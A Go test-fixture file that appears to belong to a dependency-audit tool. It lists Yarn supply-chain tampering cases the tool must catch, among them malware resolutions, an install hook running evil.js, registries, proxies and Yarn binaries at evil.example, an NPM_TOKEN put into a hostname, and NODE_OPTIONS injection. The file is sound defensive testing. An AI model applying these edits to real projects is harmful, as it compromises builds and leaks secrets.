//go:build unix

package main

import "strings"

func manifest(oldNew ...string) func(t tree) {
	return func(t tree) { t.sub("package.json", oldNew...) }
}

// member adds a member to the root's package.json.
func member(text string) func(t tree) {
	return manifest(`"private": true,`, `"private": true, `+text+`,`)
}

const malwareIn = "is in the repository, where a review sees it"

var manifestAttacks = []attack{
	{name: "a dependency that is not in the lock", edit: manifest(`"ms": "^2.0.0"`, `"ms": "^2.0.0", "left-pad": "^1.0.0"`)},
	{name: "an optional dependency that is not in the lock", edit: member(`"optionalDependencies": {"left-pad": "^1.0.0"}`)},
	{name: "a dependency of a workspace that is not in the lock", edit: func(t tree) {
		t.sub("packages/app/package.json", `"is-number"`, `"left-pad": "^1.0.0", "is-number"`)
	}},
	{name: "a range that the lock lacks", edit: manifest(`"ms": "^2.0.0"`, `"ms": "<1"`)},
	{name: "a new workspace that the lock lacks", edit: func(t tree) {
		t.set("packages/new/package.json", `{"name": "new", "version": "0.0.0", "dependencies": {"left-pad": "^1.0.0"}}`)
	}},
	{name: "resolution to malware, locked", edit: func(t tree) {
		member(`"resolutions": {"ms": "npm:left-pad@^1.0.0"}`)(t)
		t.sub("yarn.lock", msEntry, "\"ms@npm:left-pad@^1.0.0\":\n"+leftPadTail)
	}},
	{name: "resolution to malware, not locked", edit: member(`"resolutions": {"ms": "npm:left-pad@^1.0.0"}`)},
	{name: "nested resolution to malware, not locked", edit: member(`"resolutions": {"app/is-number": "npm:left-pad@^1.0.0"}`)},
	{name: "resolution to a URL, locked", edit: func(t tree) {
		member(`"resolutions": {"ms": "https://evil.example/ms.tgz"}`)(t)
		t.sub("yarn.lock", "\"ms@npm:^2.0.0\":", "\"ms@https://evil.example/ms.tgz\":", "\"ms@npm:2.1.3\"", "\"ms@https://evil.example/ms.tgz\"")
	}},
	{name: "resolution to a lower version, locked", edit: func(t tree) {
		member(`"resolutions": {"ms": "0.7.1"}`)(t)
		t.sub("yarn.lock", "ms@npm:^2.0.0\"", "ms@npm:0.7.1\"", "ms@npm:2.1.3", "ms@npm:0.7.1", "version: 2.1.3", "version: 0.7.1", sumMS, sumOldMS)
	}},
	{name: "a patch with code, locked", edit: func(t tree) {
		t.sub("package.json", `"ms": "^2.0.0"`, `"ms": "patch:ms@npm%3A2.1.3#~/.yarn/patches/ms.patch"`).set(".yarn/patches/ms.patch", "diff --git a/index.js b/index.js\n").
			sub("yarn.lock", "    ms: \"npm:^2.0.0\"", "    ms: \"patch:ms@npm%3A2.1.3#~/.yarn/patches/ms.patch\"", "ms@npm:^2.0.0\"", "ms@npm:2.1.3\"").
			add("yarn.lock", "\n\"ms@patch:ms@npm%3A2.1.3#~/.yarn/patches/ms.patch\":\n  version: 2.1.3\n  resolution: \"ms@patch:ms@npm%3A2.1.3#~/.yarn/patches/ms.patch::version=2.1.3&hash=123456\"\n"+sumLine+"  languageName: node\n  linkType: hard\n")
	}, fine: "the patch " + malwareIn},
	{name: "a patch of malware", edit: func(t tree) {
		t.locked("zz", "patch:left-pad@npm%3A1.3.0#~/.yarn/patches/ms.patch", "\n\"zz@patch:left-pad@npm%3A1.3.0#~/.yarn/patches/ms.patch\":\n  version: 1.3.0\n  resolution: \"left-pad@patch:left-pad@npm%3A1.3.0#~/.yarn/patches/ms.patch::version=1.3.0&hash=123456\"\n"+sumLinePad+"  languageName: node\n  linkType: hard\n").set(".yarn/patches/ms.patch", "x")
	}},
	{name: "a patch file out of the repository", edit: func(t tree) {
		t.locked("zz", "patch:ms@npm%3A2.1.3#../../evil.patch", "\n\"zz@patch:ms@npm%3A2.1.3#../../evil.patch\":\n  version: 2.1.3\n  resolution: \"ms@patch:ms@npm%3A2.1.3#../../evil.patch::version=2.1.3&hash=123456\"\n"+sumLine+"  languageName: node\n  linkType: hard\n")
	}},
	{name: "scripts of a package are built", edit: member(`"dependenciesMeta": {"ms": {"built": true}}`), fine: "it is the package that the base installs, and the report warns"},
	{name: "scripts of a new package are built", edit: member(`"dependenciesMeta": {"zz": {"built": true}}`)},
	{name: "an install script of the root", edit: member(`"scripts": {"preinstall": "node evil.js"}`), fine: "the script " + malwareIn},
	{name: "workspaces through a link out", edit: func(t tree) { t.set("packages/out", "link:../../outside") }},
	{name: "workspaces beside the repository", edit: manifest(`["packages/*"]`, `["packages/*", "../outside"]`)},
	{name: "Yarn from a URL", edit: manifest("yarn@4.4.1", "yarn@https://evil.example/yarn.js")},
	{name: "Yarn from a URL, with a hash", edit: manifest("yarn@4.4.1", "yarn@https://evil.example/yarn.js#sha224.953c8233f7a92884eee2de69a1b92d1f2ec1655e66d08071ba9a02fa")},
	{name: "pnpm instead of Yarn", edit: manifest("yarn@4.4.1", "pnpm@9.0.0")},
	{name: "npm instead of Yarn", edit: manifest("yarn@4.4.1", "npm@10.0.0")},
	{name: "Yarn 1 instead of Yarn 4", edit: manifest("yarn@4.4.1", "yarn@1.22.22")},
	{name: "overrides of npm", edit: member(`"overrides": {"ms": "npm:left-pad@1.3.0"}`), fine: "Yarn does not read them"},
	{name: "overrides of pnpm", edit: member(`"pnpm": {"overrides": {"ms": "npm:left-pad@1.3.0"}}`), fine: "Yarn does not read them"},
	{name: "peer dependency alone", edit: func(t tree) {
		t.sub("packages/app/package.json", `"dependencies"`, `"peerDependencies": {"left-pad": "^1.0.0"}, "dependencies"`).
			sub("yarn.lock", "    is-number: \"npm:^7.0.0\"\n", "    is-number: \"npm:^7.0.0\"\n  peerDependencies:\n    left-pad: ^1.0.0\n")
	}, fine: "Yarn installs no peers by itself"},
	{name: "dependencies twice, the last counts", edit: func(t tree) {
		t.set("package.json", `{"name": "root", "private": true, "packageManager": "yarn@4.4.1", "workspaces": ["packages/*"], "dependencies": {"ms": "^2.0.0"}, "dependencies": {"ms": "^2.0.0", "left-pad": "^1.0.0"}}`)
	}},
	{name: "dependencies twice, one with escapes", edit: func(t tree) {
		t.set("package.json", `{"name": "root", "private": true, "packageManager": "yarn@4.4.1", "workspaces": ["packages/*"], "dependencies": {"ms": "^2.0.0"}, "\u0064ependencies": {"ms": "^2.0.0", "left-pad": "^1.0.0"}}`)
	}},
	{name: "dependencies in capitals, last", edit: func(t tree) {
		t.set("package.json", `{"name": "root", "private": true, "packageManager": "yarn@4.4.1", "workspaces": ["packages/*"], "dependencies": {"ms": "^2.0.0", "left-pad": "^1.0.0"}, "Dependencies": {"ms": "^2.0.0"}}`)
	}},
	{name: "resolutions in capitals, last", edit: func(t tree) {
		t.set("package.json", `{"name": "root", "private": true, "packageManager": "yarn@4.4.1", "workspaces": ["packages/*"], "dependencies": {"ms": "^2.0.0"}, "resolutions": {"ms": "npm:left-pad@^1.0.0"}, "RESOLUTIONS": {}}`)
	}},
	{name: "packageManager in capitals, last", edit: manifest(`"packageManager": "yarn@4.4.1"`, `"packageManager": "yarn@https://evil.example/yarn.js", "PackageManager": "yarn@4.4.1"`)},
	{name: "a package.json with a BOM", edit: func(t tree) {
		manifest(`"ms": "^2.0.0"`, `"ms": "^2.0.0", "left-pad": "^1.0.0"`)(t)
		t["package.json"] = "\ufeff" + t["package.json"]
	}},
	{name: "a catalog that leads elsewhere", edit: func(t tree) {
		manifest(`"ms": "^2.0.0"`, `"ms": "catalog:"`)(t)
		rc("catalog:\n  ms: npm:left-pad@^1.0.0")(t)
	}},
	{name: "a catalog that leads elsewhere, locked", edit: func(t tree) {
		manifest(`"ms": "^2.0.0"`, `"ms": "catalog:"`)(t)
		rc("catalog:\n  ms: npm:left-pad@^1.0.0")(t)
		t.sub("yarn.lock", "    ms: \"npm:^2.0.0\"", "    ms: \"catalog:\"", msEntry, "\"ms@npm:left-pad@^1.0.0\":\n"+leftPadTail)
	}},
	{name: "workspaces are gone", edit: func(t tree) {
		manifest(`"workspaces": ["packages/*"], `, "")(t)
		t.sub("packages/app/package.json", `"is-number"`, `"left-pad": "^1.0.0", "is-number"`)
	}, fine: "nothing installs the folder then; the lock is still in line with the root"},
	{name: "a negated workspace", edit: func(t tree) {
		manifest(`["packages/*"]`, `["packages/*", "!packages/app"]`)(t)
		t.sub("packages/app/package.json", `"is-number"`, `"left-pad": "^1.0.0", "is-number"`)
	}, fine: "nothing installs the folder then"},
}

var settingAttacks = []attack{
	{name: "another Yarn", edit: func(t tree) {
		rc("yarnPath: .yarn/releases/yarn-4.4.1.cjs")(t)
		t.set(".yarn/releases/yarn-4.4.1.cjs", "evil")
	}},
	{name: "another Yarn, with a key in escapes", edit: func(t tree) { rc(`"yarn\x50ath": .yarn/releases/x.cjs`)(t); t.set(".yarn/releases/x.cjs", "evil") }},
	{name: "a plugin", edit: func(t tree) {
		rc("plugins:\n  - path: .yarn/plugins/evil.cjs\n    spec: \"https://evil.example/plugin.js\"")(t)
		t.set(".yarn/plugins/evil.cjs", "evil")
	}},
	{name: "a plugin without spec", edit: func(t tree) { rc("plugins:\n  - ./evil.cjs")(t); t.set("evil.cjs", "evil") }},
	{name: "a plugin out of the repository", edit: rc("plugins:\n  - ../evil.cjs")},
	{name: "another registry", edit: rc("npmRegistryServer: https://evil.example")},
	{name: "another registry, quoted", edit: rc(`"npmRegistryServer": "https://evil.example"`)},
	{name: "another registry, in flow style", edit: rc(`? npmRegistryServer
: https://evil.example`)},
	{name: "a setting twice", edit: rc("npmRegistryServer: https://registry.yarnpkg.com\nnpmRegistryServer: https://evil.example")},
	{name: "a setting of two levels", edit: rc("npmScopes:\n  evil:\n    npmRegistryServer: https://evil.example")},
	{name: "a setting by a merge key", edit: rc("x: &x\n  npmRegistryServer: https://evil.example\n<<: *x")},
	{name: "http is allowed", edit: rc("unsafeHttpWhitelist: [\"*\"]")},
	{name: "scripts are run", edit: rcInstead("enableScripts: false", "enableScripts: true")},
	{name: "scripts are run, as a text", edit: rcInstead("enableScripts: false", `enableScripts: "1"`)},
	{name: "scripts are run by default", edit: rcInstead("enableScripts: false\n", "")},
	{name: "checksums are ignored", edit: rc("checksumBehavior: ignore")},
	{name: "checksums are updated", edit: rc("checksumBehavior: update")},
	{name: "no minimal age", edit: rcInstead("npmMinimalAgeGate: 3d", "npmMinimalAgeGate: 0")},
	{name: "all may be young", edit: rc("npmPreapprovedPackages: [\"*\"]")},
	{name: "a secret in a host", edit: rc("npmRegistryServer: \"https://${NPM_TOKEN}.evil.example\"")},
	{name: "a file of environment", edit: func(t tree) {
		rc("injectEnvironmentFiles: [evil.env]")(t)
		t.set("evil.env", "NODE_OPTIONS=--require ./evil.js")
	}},
	{name: "a file of environment that Yarn reads anyway", edit: func(t tree) { t.set(".env.yarn", "NODE_OPTIONS=--require ./evil.js") }},
	{name: "a proxy without TLS", edit: rc("httpsProxy: http://evil.example:8080\nenableStrictSsl: false")},
	{name: "a CA of its own", edit: rc("httpsCaFilePath: ./ca.pem")},
	{name: "a CA that never ends", edit: rc("httpsCaFilePath: /dev/zero")},
	{name: "a proxy for one host", edit: rc("networkSettings:\n  registry.yarnpkg.com:\n    httpsProxy: http://evil.example")},
	{name: "an extension of packages, locked", edit: func(t tree) {
		rc("packageExtensions:\n  ms@*:\n    dependencies:\n      left-pad: ^1.0.0")(t)
		t.sub("yarn.lock", "  resolution: \"ms@npm:2.1.3\"\n", "  resolution: \"ms@npm:2.1.3\"\n  dependencies:\n    left-pad: \"npm:^1.0.0\"\n").add("yarn.lock", leftPadEntry)
	}},
	{name: "settings in a workspace", edit: func(t tree) { t.set("packages/app/.yarnrc.yml", "npmRegistryServer: https://evil.example\n") }},
	{name: "another Yarn in a workspace", edit: func(t tree) {
		t.set("packages/app/.yarnrc.yml", "yarnPath: ./evil.cjs\n", "packages/app/evil.cjs", "evil")
	}},
	{name: "another lock", edit: func(t tree) {
		rc("lockfileFilename: other.lock")(t)
		t.set("other.lock", strings.Replace(t["yarn.lock"], msEntry, "\"ms@npm:^2.0.0\":\n"+leftPadTail, 1))
	}},
	{name: "a cache in the repository, with an archive", edit: func(t tree) {
		rc("enableGlobalCache: false\ncacheFolder: ./.yarn/cache")(t)
		t.locked("zz", "^1.0.0", "\n\"zz@npm:^1.0.0\":\n  version: 1.0.0\n  resolution: \"zz@npm:1.0.0\"\n"+sumLine+"  languageName: node\n  linkType: hard\n").set(".yarn/cache/zz-npm-1.0.0-0123456789-d924b57e73.zip", "evil")
	}},
	{name: "an archive in Yarn's own cache folder", edit: func(t tree) {
		t.locked("zz", "^1.0.0", "\n\"zz@npm:^1.0.0\":\n  version: 1.0.0\n  resolution: \"zz@npm:1.0.0\"\n"+sumLine+"  languageName: node\n  linkType: hard\n").set(".yarn/cache/zz-npm-1.0.0-0123456789-d924b57e73.zip", "evil")
	}},
	{name: "a mirror folder", edit: rc("enableMirror: true\nglobalFolder: ./.yarn/berry")},
	{name: "installs may change the lock", edit: rc("enableImmutableInstalls: false")},
	{name: "no hardened mode", edit: rc("enableHardenedMode: false")},
	{name: "another default protocol", edit: rc("defaultProtocol: \"exec:\"")},
	{name: "settings that cannot be read", edit: rc("\tnpmRegistryServer: https://evil.example")},
	{name: "settings of another name", edit: func(t tree) { t.set(".yarnrc", "yarn-path ./evil.js\n", "evil.js", "evil") }},
	{name: "a file of .pnp", edit: func(t tree) { t.set(".pnp.cjs", "evil") }, fine: "install writes it anew, and --immutable refuses another"},
}

const ignoreMalware = "audit:\n  ignore:\n    - id: MAL-0000-1\n      reason: x\n      owner: x\n      expires: 2026-12-31\n"

func withMalware(edit func(t tree)) func(t tree) {
	return func(t tree) {
		t.locked("left-pad", "^1.0.0", leftPadEntry)
		edit(t)
	}
}

var policyAttacks = []attack{
	{name: "ignore of its own", edit: withMalware(func(t tree) { t.set(".portalctl.yaml", ignoreMalware) })},
	{name: "policy of its own", edit: withMalware(func(t tree) { t.set(".portalctl.yaml", "audit:\n  fail-on: none\n  prod: true\n") })},
	{name: "policy behind a link", edit: withMalware(func(t tree) { t.set("p.yaml", ignoreMalware, ".portalctl.yaml", "link:p.yaml") })},
	{name: "rules off", edit: func(t tree) {
		t.set(".portalctl.yaml", "audit:\n  rules:\n    lock-integrity: off\n")
		lockSub(sumLine, "")(t)
	}},
	{name: "registries of its own", edit: func(t tree) {
		t.set(".portalctl.yaml", "audit:\n  registries:\n    - https://evil.example\n")
		rc("npmRegistryServer: https://evil.example")(t)
	}},
	{name: "baseline of its own", edit: withMalware(func(t tree) { t.set(".portalctl-baseline.json", `{"schema": "portalctl.baseline/v1", "findings": []}`) })},
	{name: "ignore of osv-scanner", edit: withMalware(func(t tree) {
		t.set("osv-scanner.toml", "[[IgnoredVulns]]\nid = \"MAL-0000-1\"\nreason = \"x\"\n\n[[PackageOverrides]]\nname = \"left-pad\"\necosystem = \"npm\"\nvulnerability.ignore = true\nreason = \"x\"\n")
	})},
	{name: "a journal", edit: withMalware(func(t tree) {
		t.set(".portalctl-txn/journal.json", `{"schema":"portalctl.txn/v1","id":"0123456789ab","state":"commit","dirs":["yarn.lock"],"files":[]}`)
	})},
	{name: "git attributes", edit: withMalware(func(t tree) { t.set(".gitattributes", "yarn.lock export-ignore -diff filter=evil\n") })},
	{name: "git ignores the lock", edit: withMalware(func(t tree) { t.set(".gitignore", "yarn.lock\n") })},
	{name: "a project of its own beside, with malware", edit: func(t tree) {
		t.set("e2e/package.json", `{"name": "e2e", "dependencies": {"left-pad": "^1.0.0"}}`, "e2e/yarn.lock", "# yarn lockfile v1\n\n\nleft-pad@^1.0.0:\n"+classicLeftPad)
	}},
	{name: "a project of its own in a folder with a dot", edit: func(t tree) {
		t.set(".e2e/package.json", `{"name": "e2e", "dependencies": {"left-pad": "^1.0.0"}}`, ".e2e/yarn.lock", "# yarn lockfile v1\n\n\nleft-pad@^1.0.0:\n"+classicLeftPad)
	}},
	{name: "a project of its own that git ignores", edit: func(t tree) {
		t.set(".gitignore", "e2e\n", "e2e/package.json", `{"name": "e2e", "dependencies": {"left-pad": "^1.0.0"}}`, "e2e/yarn.lock", "# yarn lockfile v1\n\n\nleft-pad@^1.0.0:\n"+classicLeftPad)
	}},
	{name: "a package-lock beside, with malware", edit: func(t tree) {
		t.set("package-lock.json", strings.ReplaceAll(strings.ReplaceAll(npmLock, "ms", "left-pad"), "2.1.3", "1.3.0"))
	}},
	{name: "a pnpm-lock beside, with malware", edit: func(t tree) {
		t.set("pnpm-lock.yaml", "lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    dependencies:\n      left-pad:\n        specifier: ^1.0.0\n        version: 1.3.0\n\npackages:\n\n  left-pad@1.3.0:\n    resolution: {integrity: "+sriLeftPad+"}\n\nsnapshots:\n\n  left-pad@1.3.0: {}\n")
	}},
	{name: "a pnpm-lock instead", edit: func(t tree) {
		t.del("yarn.lock").set("pnpm-lock.yaml", "lockfileVersion: '9.0'\n\nimporters:\n\n  .: {}\n")
	}},
}

// attackKinds are all, by the portal that they are brought to.
func attackKinds() map[string]map[string][]attack {
	return map[string]map[string][]attack{
		"berry":   {"lock": berryLockAttacks, "manifest": manifestAttacks, "settings": settingAttacks, "policy": policyAttacks},
		"classic": {"lock": classicAttacks},
		"npm":     {"lock": npmAttacks},
		"zero":    {"cache": cacheAttacks},
	}
}
